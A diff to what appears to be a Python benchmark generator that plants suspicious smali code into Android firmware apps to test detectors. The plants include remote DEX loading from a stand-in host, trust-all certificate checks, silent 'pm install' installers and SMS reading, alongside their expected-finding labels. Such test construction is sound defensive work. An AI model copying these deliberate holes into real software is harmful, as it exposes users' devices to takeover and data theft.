@@ -5,7 +5,7 @@ import tree
 from plants import Sees, plant, word
 from plants import smali
 
-HOST = r"host|endpoint|network|clear|server"
+LOADS = "code_loading|power_gained|door_opened|power_reached"
 
 
 def helper(app, rng, *methods, parent="java.lang.Object", interfaces=()):
@@ -44,7 +44,7 @@ def from_door(app, method, tags=("receiver", "service", "provider")):
 def dex_from_address(site):
     """A system app fetches a DEX from an address and loads it."""
     app = site.app({"blu": "BatteryWarning", "oneplus": "OPBugReportLite"}[site.host])
-    host = site.one_of("cdn", "dl", "res") + ".planted-bench.example"
+    host = site.one_of("cdn", "dl", "res") + ".plantedbench.net"
     address = f"http://{host}/p/m.dat"
     other = helper(app, site.rng, smali.static_method("a", "(Landroid/content/Context;Ljava/lang/String;)V", smali.LOAD_DEX),
                    smali.static_method("b", "(Landroid/content/Context;)V", f"""
@@ -57,7 +57,7 @@ def dex_from_address(site):
     return-void""", 3))
     fix_own_name(app, other)
     from_door(app, f"{other}->b(Landroid/content/Context;)V", ("service", "receiver", "activity"))
-    return Sees("load|dynamic|dex|power|code", word(app.package), "(?i)load|DexClassLoader")
+    return Sees(LOADS, word(app.package), "DexClassLoader|load_code")
 
 
 def fix_own_name(app, descriptor):
@@ -85,7 +85,7 @@ def dex_from_file(site):
     invoke-direct {v4, v0, v1, v2, v3}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V
     return-void"""))
     from_door(app, f"{other}->a(Landroid/content/Context;)V")
-    return Sees("load|dynamic|dex|power|code", word(app.package), "(?i)load|DexClassLoader")
+    return Sees(LOADS, word(app.package), "DexClassLoader|load_code")
 
 
 @plant("native library", "blu")
@@ -109,14 +109,14 @@ def native_library_loaded(site):
     folder = "system/lib64"
     donor = next(p for p in sorted(site.files) if p.startswith(folder + "/") and p.endswith(".so") and p.count("/") == folder.count("/") + 1 and len(site.files[p].data) < 20_000)
     site.files[f"{folder}/lib{stem}.so"] = tree.Entry(native.with_build_id(site.files[donor].data, site.rng))
-    return Sees("native|librar|load|jni|code", word(app.package) + "|" + word(stem), word(stem))
+    return Sees("code_loading|file_added|library_added|native_library_added", word(app.package) + "|" + word(stem), word(stem))
 
 
 @plant("new host", "sample", "blu", "xiaomi")
 def plain_new_host(site):
     """An app asks a host that it did not name before."""
-    app = site.app({"sample": "SampleHelper", "blu": "CaptivePortalLogin", "xiaomi": "WeatherProvider"}[site.host])
-    host = site.one_of("stat", "api", "log") + ".planted-bench.example"
+    app = site.app({"sample": "SampleBeacon", "blu": "CaptivePortalLogin", "xiaomi": "WeatherProvider"}[site.host])
+    host = site.one_of("stat", "api", "log") + ".plantedbench.net"
     other = helper(app, site.rng, smali.static_method("a", "(Ljava/lang/String;)V", smali.ASK, 2), smali.static_method("b", "()V", f"""
     :start
     const-string v0, "https://{host}/v1/u"
@@ -127,14 +127,14 @@ def plain_new_host(site):
     return-void""", 2))
     fix_own_name(app, other)
     from_door(app, f"{other}->b()V", ("service", "receiver", "provider", "activity"))
-    return Sees(HOST, word(app.package) + "|" + word(host), word(host))
+    return Sees("host_added", word(app.package), word(host))
 
 
 @plant("built host", "blu", "sample", scored=False)
 def host_from_characters(site):
     """The host stands in no text: it is built from single characters."""
-    app = site.app({"blu": "ProxyHandler", "sample": "SampleHelper"}[site.host])
-    host = "c.planted-bench.example"
+    app = site.app({"blu": "ProxyHandler", "sample": "SampleCodes"}[site.host])
+    host = "c.plantedbench.net"
     values = "\n".join(f"        0x{ord(letter):x}s" for letter in host)
     other = helper(app, site.rng, smali.static_method("a", "(Ljava/lang/String;)V", smali.ASK, 2), smali.static_method("b", "()V", f"""
     :start
@@ -157,7 +157,7 @@ def host_from_characters(site):
     .end array-data""", 3))
     fix_own_name(app, other)
     from_door(app, f"{other}->b()V", ("service", "receiver", "provider", "activity"))
-    return Sees(HOST, word(app.package) + "|" + word(host), word(host))
+    return Sees("host_added", word(app.package), word(host))
 
 
 @plant("cleartext", "xiaomi", quiet=True)
@@ -172,13 +172,13 @@ def https_becomes_http(site):
     if not changed:
         raise KeyError("no such address")
     app.code_changed = True
-    return Sees("clear|http|" + HOST, word(app.package) + "|miuiboot", r"(?i)http|clear")
+    return Sees("host_in_clear", r"com\.miui\.analytics miuiboot\.tracking", "http://")
 
 
 @plant("certificate check", "xiaomi", "blu", quiet=True)
 def trust_manager_accepts_all(site):
     """A class that accepts every server's certificate, given to all HTTPS of the app."""
-    app = site.app({"xiaomi": "AnalyticsCore", "blu": "AdupsFotaReboot"}[site.host])
+    app = site.app({"xiaomi": "AnalyticsCore", "blu": "SchedulePowerOnOff"}[site.host])
     manager = helper(app, site.rng, smali.TRUST_ALL, interfaces=("javax.net.ssl.X509TrustManager",))
     other = helper(app, site.rng, smali.static_method("w", "()V", f"""
     :start
@@ -201,7 +201,7 @@ def trust_manager_accepts_all(site):
     :failed
     return-void"""))
     from_door(app, f"{other}->w()V", ("service", "receiver"))
-    return Sees("cert|trust|check|power|code", word(app.package), "(?i)cert|trust")
+    return Sees("power_gained|finding_gained", word(app.package), "checkServerTrusted|accept_any_certificate")
 
 
 @plant("certificate check", "oneplus", quiet=True)
@@ -221,7 +221,7 @@ def host_name_verifier_says_yes(site):
     invoke-static {{v0}}, Ljavax/net/ssl/HttpsURLConnection;->setDefaultHostnameVerifier(Ljavax/net/ssl/HostnameVerifier;)V
     return-void""", 1))
     from_door(app, f"{other}->v()V", ("service", "receiver"))
-    return Sees("cert|trust|check|power|code", word(app.package), "(?i)cert|trust|verif|name")
+    return Sees("power_gained|finding_gained", word(app.package), r"HostnameVerifier\.verify")
 
 
 @plant("certificate check", "oneplus")
@@ -241,7 +241,7 @@ def user_certificates_trusted(site):
         base.first("trust-anchors").children.append(base_anchor)
     # Without a resource table of its own to grow, the setting in the manifest is what counts here.
     app.entries["res/xml/net.xml"] = axml.encode(axml.Document(root, [], {}))
-    return Sees("clear|network|cert|check", word(app.package), "(?i)clear|network|user")
+    return Sees("package_switch|power_gained", word(app.package), "(?i)clear|encrypt")
 
 
 @plant("reflection", "blu", "oneplus", quiet=True)
@@ -274,7 +274,7 @@ def reflection_by_decoded_name(site):
     return-void""", 4))
     fix_own_name(app, other)
     from_door(app, f"{other}->e()V", ("service", "receiver", "provider"))
-    return Sees("reflect|code|load|call", word(app.package), "(?i)reflect|forName|invoke|code")
+    return Sees("code_loading|call_added", word(app.package), r"Class\.forName|Class\.getMethod|Method\.invoke")
 
 
 @plant("update check", "xiaomi", "oneplus", quiet=True)
@@ -292,15 +292,15 @@ def signature_check_dropped(site):
     if not changed:
         raise KeyError("no check")
     app.code_changed = True
-    return Sees("update|check|guard|sign|power|code", word(app.package), "(?i)check|sign|verif")
+    return Sees("check_dropped|call_removed|update_agent", word(app.package), "getPackageArchiveInfo|checkSignatures")
 
 
 @plant("update check", "sample")
 def update_host_changed(site):
     """The update agent fetches from another host."""
     app = site.app("SampleUpdater")
-    app.edit("nl.klikspaan.sample.updater.UpdateService", lambda text: text.replace("updates.sample-telltale.example", "updates.planted-bench.example"))
-    return Sees("update|" + HOST, word(app.package) + "|planted-bench", word("planted-bench.example"))
+    app.edit("nl.klikspaan.sample.updater.UpdateService", lambda text: text.replace("updates.sample-telltale.example", "updates.plantedbench.net"))
+    return Sees("host_added|update_agent", word(app.package), word("plantedbench.net"))
 
 
 @plant("silent installer", "oneplus", "blu")
@@ -317,7 +317,7 @@ def installer_newly_reachable(site):
     invoke-static {{p1, v0}}, {other}->i(Landroid/content/Context;Ljava/lang/String;)V
 """))
     app.application.add("receiver", name=name, exported=True).add("intent-filter").add("action", name=f"{app.package}.SYNC")
-    return Sees("power|reach|install|door", word(app.package), "(?i)install")
+    return Sees("door_opened|power_gained", word(app.package), "install apps without asking|install_silently")
 
 
 @plant("silent installer", "xiaomi", quiet=True)
@@ -335,7 +335,7 @@ def installer_by_shell(site):
     :failed
     return-void""", 2))
     from_door(app, f"{other}->p()V", ("receiver", "service"))
-    return Sees("power|reach|install|command|code", word(app.package), "(?i)install|command")
+    return Sees("power_gained|power_reached", word(app.package), "pm install")
 
 
 @plant("data collection", "xiaomi", quiet=True)
@@ -355,4 +355,4 @@ def messages_are_read(site):
     invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
     return-void"""))
     from_door(app, f"{other}->s(Landroid/content/Context;)V", ("receiver", "service", "activity"))
-    return Sees("power|reach|code|content", word(app.package), "(?i)message|sms")
+    return Sees("power_gained|power_reached", word(app.package), "content://sms")
